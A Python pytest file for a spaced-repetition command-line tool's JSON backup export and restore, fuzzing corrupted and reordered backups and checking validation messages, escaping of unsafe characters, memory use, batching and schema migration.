    if isinstance(value, str) and len(value) == 10 and value[4:5] == "-":
        return st.dates(date(1960, 1, 1), date(2250, 1, 1)).map(date.isoformat)
    if isinstance(value, str) and value[10:11] == "T":
        return st.datetimes(datetime(1960, 1, 1), datetime(2150, 1, 1),
                            timezones=st.none() | st.just(UTC)).map(datetime.isoformat)
    return JSON_VALUES


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The path of every value inside a JSON document, containers included."""
    items = (value.items() if isinstance(value, dict)
             else enumerate(value) if isinstance(value, list) else ())
    for key, inner in items:
        yield (*path, key)
        yield from places(inner, (*path, key))


def leaves(value: Any) -> Iterator[Any]:
    if isinstance(value, dict | list):
        for inner in value.values() if isinstance(value, dict) else value:
            yield from leaves(inner)
    else:
        yield value


def replaced(data: Any, path: tuple[Any, ...], value: Any) -> Any:
    changed = copy.deepcopy(data)
    parent = changed
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    return changed


@settings(max_examples=150, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=st.data())
def test_any_one_value_changed_restores_usably_or_changes_nothing(
        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path,
        data: st.DataObject) -> None:
    """Whatever one value of a backup becomes, the restore gives a database every command
    can read, or refuses in one line and leaves the database and config.toml as they were."""
    database = srs_home / "data" / "srs.db"
    config = srs_home / "config" / "config.toml"
    original = write_backup(tmp_path / "backup.json", backup)
    path = data.draw(st.sampled_from(sorted(places(backup), key=str)), label="path")
    current = backup
    for key in path:
        current = current[key]
    value = data.draw(JSON_VALUES | st.sampled_from(list(leaves(backup))) | like(current),
                      label="value")
    flags = data.draw(st.sampled_from([(), ("--with-config",)]), label="flags")
    changed = write_backup(tmp_path / "changed.json", replaced(backup, path, value))
    before, kept = sql_dump(database), config.read_bytes()
    result = run("restore", str(changed), "--replace", *flags)
    event("restored" if result.exit_code == 0 else "refused")
    if result.exit_code == 0:
        for command in ("cards", "today", "stats"):
            used = run(command, "--json")
            assert used.exit_code == 0, (command, used.output)
            json.loads(used.stdout)
        config.write_bytes(kept)
        assert run("restore", str(original), "--replace").exit_code == 0
        return
    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    assert result.stderr.startswith(REFUSALS), result.stderr  # not "internal error"
    assert result.stderr.count("\n") == 1
    assert sql_dump(database) == before
    assert config.read_bytes() == kept


# -- the tables as plain data ------------------------------------------------------------------


def test_the_plain_tables_are_the_models() -> None:
    """srs/tables.py describes every table, column, key and reference of srs/models.py."""
    from sqlalchemy import Boolean, Date, Float, Integer, String, UniqueConstraint

    from srs.models import Base, UTCDateTime
    from srs.tables import NO_DEFAULT, TABLES, Column, Table, restore_order

    def kind(column: Any) -> str:
        for type_, name in ((UTCDateTime, "moment"), (Boolean, "bool"), (Integer, "int"),
                            (Float, "float"), (Date, "date"), (String, "text")):
            if isinstance(column.type, type_):
                return name
        raise AssertionError(column)

    def described(table: Any) -> Table:
        columns = []
        for column in table.columns:
            default = (column.default.arg if column.default is not None
                       and column.default.is_scalar else NO_DEFAULT)
            references = [(fk.column.table.name, fk.column.name) for fk in column.foreign_keys]
            type_ = getattr(column.type, "impl_instance", column.type)
            columns.append(Column(column.name, kind(column), str(type_), column.nullable,
                                  default, column.primary_key,
                                  references[0] if references else None,
                                  getattr(column.type, "length", None)))
        unique = tuple(tuple(c.name for c in constraint.columns)
                       for constraint in table.constraints
                       if isinstance(constraint, UniqueConstraint))
        return Table(table.name, tuple(columns), unique)

    assert list(TABLES) == [described(t) for t in Base.metadata.sorted_tables]
    assert restore_order(reversed(TABLES)) == list(TABLES)


def test_a_backup_is_json_dumps_with_indent_one(history: Path, run: Run,
                                                srs_home: Path) -> None:
    """Written row by row, the file is what json.dumps(indent=1) makes of the whole, with
    what a terminal would obey or hide escaped (as every --json output)."""
    from cli.output import json_text

    database = srs_home / "data" / "srs.db"
    sqlite_run(database, "UPDATE card SET notes = :notes WHERE id = 1", [
        {"notes": "bidi \u202e, zero width \u200b, C1 \x9b, DEL \x7f, BOM \ufeff, "
                  "\u2014 and \u2026 stay"}])
    sqlite_run(database, SIDE_NOTES)  # no rows: "rows": []
    text = run("export").stdout
    data = json.loads(text)
    assert text == json_text(data, indent=1) + "\n"
    assert data["tables"]["side_notes"]["rows"] == []
    notes = data["tables"]["card"]["rows"][0][2]
    assert notes.startswith("bidi \u202e") and "\\u202e" in text and "\u2014 and \u2026" in text


def test_the_escapes_found_in_utf8_are_those_of_the_text() -> None:
    from srs.export import _has_unsafe
    from srs.text import UNSAFE_IN_JSON

    for code in range(0x110000):
        if 0xD800 <= code <= 0xDFFF:
            continue
        char = chr(code)
        assert _has_unsafe(f"ab{char}cd".encode()) == bool(UNSAFE_IN_JSON.search(char)), code


def _cards(path: Path, count: int) -> None:
    """`count` cards with two self-tests each, written straight into a migrated database."""
    cards, reviews = [], []
    for i in range(1, count + 1):
        cards.append({"id": i, "topic": f"话题 topic {i}", "notes": "note " * 8,
                      "learned_on": "2026-10-01", "due": "2026-12-01", "state": 2,
                      "stability": 3.25 + i / 7, "difficulty": 5.5, "last": i / 3,
                      "at": "2026-10-03 12:00:00.000000"})
        for n in range(2):
            reviews.append({"id": 2 * i + n, "card_id": i, "stability": i / 9,
                            "at": f"2026-10-0{n + 1} 12:00:00.000000"})
    sqlite_run(path, "INSERT INTO card (id, topic, notes, section, learned_on, state, "
                     "stability, difficulty, due, last_review, suspended, in_log, created_at, "
                     "updated_at, last_review_day) VALUES (:id, :topic, :notes, '', :learned_on, "
                     ":state, :stability, :difficulty, :due, :at, 0, 1, :at, :at, :last)", cards)
    sqlite_run(path, "INSERT INTO review (id, card_id, at, kind, rating, source, recorded_at, "
                     "study_day, prior_state, stability, difficulty) VALUES (:id, :card_id, "
                     ":at, 'review', 3, 'log', :at, '2026-10-01', 2, :stability, 5.0)", reviews)


def test_export_memory_does_not_grow_with_the_cards(run: Run, tmp_path: Path) -> None:
    """The largest memory an export takes is the same for 2,000 and 20,000 cards."""
    import tracemalloc

    from srs.app import App
    from srs.export import write_backup

    peaks, sizes = [], []
    for count in (2_000, 20_000):
        url = f"sqlite:///{tmp_path / f'{count}.db'}"
        assert run("--db", url, "cards").exit_code == 0
        _cards(tmp_path / f"{count}.db", count)
        app = App(url)
        written = [0]

        def write(data: bytes, written: list[int] = written) -> None:
            written[0] += len(data)

        with app.reading() as conn:
            tracemalloc.start()
            write_backup(conn, write, now=datetime(2026, 11, 30, tzinfo=UTC), config={},
                         version="0")
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
        app.close()
        sizes.append(written[0])
    assert sizes[1] > 9 * sizes[0]  # ten times the data went through
    assert peaks[1] < 1.5 * peaks[0], peaks


def test_rows_are_written_and_inserted_in_batches(history: Path, run: Run, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """Batches of two rows: each table's rows go in after the rows they refer to."""
    import srs.backupcheck
    import srs.export

    before = export_json(run)
    monkeypatch.setattr(srs.export, "BATCH", 2)
    monkeypatch.setattr(srs.backupcheck, "CHUNK", 7)  # the file read seven characters at a time
    backup = tmp_path / "backup.json"
    assert run("export", "-o", str(backup)).exit_code == 0
    assert json.loads(backup.read_text(encoding="utf-8")) == before
    target = f"sqlite:///{tmp_path / 'restored.db'}"
    result = run("--db", target, "restore", str(backup))
    assert result.exit_code == 0, result.output
    assert export_json(run, "--db", target)["tables"] == before["tables"]


def _reordered(data: dict[str, Any]) -> dict[str, Any]:
    """The same backup with its parts in another order: the tables first, each table's rows
    before its columns, and children before the tables they refer to."""
    head = {key: value for key, value in data.items() if key != "tables"}
    tables = {name: {"rows": table["rows"], "columns": table["columns"]}
              for name, table in reversed(list(data["tables"].items()))}
    return {"tables": tables, **head}


def test_a_backup_in_another_order_restores_the_same(backup: dict[str, Any], run: Run,
                                                     tmp_path: Path) -> None:
    path = write_backup(tmp_path / "reordered.json", _reordered(backup))
    assert path.read_text(encoding="utf-8").startswith('{"tables": {"review": {"rows"')
    target = f"sqlite:///{tmp_path / 'restored.db'}"
    result = run("--db", target, "restore", str(path))
    assert result.exit_code == 0, result.output
    assert export_json(run, "--db", target)["tables"] == backup["tables"]


def test_a_bad_value_in_a_backup_in_another_order_is_named(backup: dict[str, Any], run: Run,
                                                          tmp_path: Path) -> None:
    cell("card", 3, "stability", -1)(backup)
    cell("review", 0, "card_id", 999)(backup)  # told after every value is checked
    path = write_backup(tmp_path / "reordered.json", _reordered(backup))
    result = run("--db", f"sqlite:///{tmp_path / 'restored.db'}", "restore", str(path))
    assert result.exit_code == 1
    assert result.stderr == ("Error: not a valid srs backup: tables.card.rows[3].stability: -1 "
                             "is not a stability (a number above 0)\n")


@pytest.mark.parametrize("twice", ["table", "rows", "tables"])
def test_a_name_given_twice_is_refused(backup: dict[str, Any], run: Run, tmp_path: Path,
                                       twice: str) -> None:
    """JSON would keep the last of two members of one name; a backup names each once."""
    text = json.dumps(backup)
    if twice == "table":
        text = text.replace('"tables": {', '"tables": {"setting": {"columns": ["key", "value"], '
                                           '"rows": []}, ')
        message = 'tables.setting: "setting" is named twice'
    elif twice == "rows":
        text = text.replace('"setting": {', '"setting": {"rows": [], ')
        message = 'tables.setting.rows: "rows" is named twice'
    else:
        text = text[:-1] + ', "tables": {}}'
        message = 'tables: "tables" is named twice'
    path = tmp_path / "twice.json"
    path.write_text(text, encoding="utf-8")
    result = run("restore", str(path), "--replace")
    assert result.exit_code == 1
    assert result.stderr == f"Error: not a valid srs backup: {message}\n"


def _json_error(text: str) -> str:
    try:
        json.loads(text)
    except RecursionError:
        return "nested too deeply"
    except ValueError as err:
        return str(err)
    return ""


@settings(max_examples=300, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_text_that_is_no_json_is_told_as_json_tells_it(tmp_path: Path, data: st.DataObject,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Read a few characters at a time, a broken file gets json.loads's own words, line,
    column and character."""
    import srs.backupcheck
    from srs.export import ExportError

    base = json.dumps({"format": "srs-backup", "version": 1, "schema": "0005",
                       "tables": {"card": {"columns": ["id", "topic"],
                                           "rows": [[1, "a\\\"b"], [2, 1.5e3], [3, None]]},
                                  "setting": []}, "config": {"x": [1, {"y": "z"}]}},
                      indent=data.draw(st.sampled_from([None, 1])))
    at = data.draw(st.integers(0, len(base)), label="at")
    cut = data.draw(st.integers(0, 3), label="cut")
    added = data.draw(st.sampled_from(["", ",", "]", "}", "{", '"', "x", "\n", "1", "\r\n",
                                       "\\", "\x01", "e", "-", "[" * 3000]), label="added")
    text = base[:at] + added + base[at + cut:]
    monkeypatch.setattr(srs.backupcheck, "CHUNK", data.draw(st.sampled_from([1, 3, 64, 1 << 20])))
    path = tmp_path / "broken.json"
    path.write_bytes(text.encode("utf-8"))
    expected = _json_error(text.replace("\r\n", "\n"))
    try:
        srs.backupcheck.read_backup(path)
    except ExportError as err:
        if expected:
            assert str(err) == f"not an srs backup: not JSON ({expected})"
        else:
            assert "not JSON" not in str(err)
    except srs.backupcheck.InvalidBackup:
        assert not expected
    else:
        raise AssertionError("a broken backup was taken")


def test_a_file_changed_between_its_reads_is_not_restored(backup: dict[str, Any],
                                                         tmp_path: Path) -> None:
    from srs.backupcheck import read_backup, read_rows
    from srs.export import ExportError

    path = write_backup(tmp_path / "backup.json", backup)
    checked = read_backup(path)
    cell("card", 3, "stability", -1)(backup)
    write_backup(path, backup)
    with pytest.raises(ExportError, match="changed while it was read"):
        read_rows(checked, {})


def test_a_backup_without_the_steps_of_self_tests_gets_them(
        backup: dict[str, Any], run: Run, tmp_path: Path) -> None:
    """A backup of schema 0004 knew nothing of what each self-test did: the restore works
    it out from the histories, and the CSV and `review check` read it."""
    settings = backup["tables"]["setting"]
    # The history's parameters were stored without a replay: its steps are py-fsrs's own.
    settings["rows"] = [row for row in settings["rows"] if row[0] != "fsrs.parameters"]
    reviews = backup["tables"]["review"]
    steps = ["study_day", "prior_state", "elapsed_days", "retrievability", "stability",
             "difficulty"]
    keep = [i for i, name in enumerate(reviews["columns"]) if name not in steps]
    old = copy.deepcopy(backup)
    old["schema"] = "0004"
    old["tables"]["review"] = {"columns": [reviews["columns"][i] for i in keep],
                               "rows": [[row[i] for i in keep] for row in reviews["rows"]]}
    target = f"sqlite:///{tmp_path / 'old.db'}"
    result = run("--db", target, "restore", str(write_backup(tmp_path / "old.json", old)))
    assert result.exit_code == 0, result.output
    restored = export_json(run, "--db", target)["tables"]
    undone = reviews["columns"].index("undone_at")
    graded = [row for row in reviews["rows"] if row[undone] is None]
    assert sum(1 for row in graded if row[reviews["columns"].index("study_day")]) >= 8
    assert [row for row in restored["review"]["rows"] if row[undone] is None] == graded
    assert run("--db", target, "check").exit_code == 0
    assert (run("--db", target, "export", "--format", "csv").stdout
            == run("export", "--format", "csv").stdout)


def test_csv_replays_a_card_whose_self_tests_stored_no_state(history: Path, run: Run,
                                                             srs_home: Path) -> None:
    before = run("export", "--format", "csv").stdout
    assert len(before.splitlines()) > 5
    sqlite_run(srs_home / "data" / "srs.db", "UPDATE review SET prior_state = NULL "
                                             "WHERE card_id = 2")
    assert run("export", "--format", "csv").stdout == before


def test_export_and_restore_leave_sqlalchemy_unloaded(history: Path, run: Run,
                                                      srs_home: Path, tmp_path: Path) -> None:
    """On an SQLite file at the schema's head, neither command imports SQLAlchemy."""
    import os
    import subprocess
    import sys

    backup = tmp_path / "backup.json"
    assert run("export", "-o", str(backup)).exit_code == 0
    target = tmp_path / "restored.db"
    assert run("--db", f"sqlite:///{target}", "cards").exit_code == 0
    env = {**os.environ, "SRS_HOME": str(srs_home)}
    for args in (["export", "-o", str(tmp_path / "again.json")], ["export", "--format", "csv"],
                 ["export", "--format", "ics"],
                 ["--db", f"sqlite:///{target}", "restore", str(backup)]):
        done = subprocess.run([sys.executable, "-X", "importtime", "-m", "cli", *args],
                              capture_output=True, text=True, env=env, check=False,
                              cwd=Path(__file__).parent.parent)
        assert done.returncode == 0, done.stderr[-2000:]
        assert "sqlalchemy" not in done.stderr, args
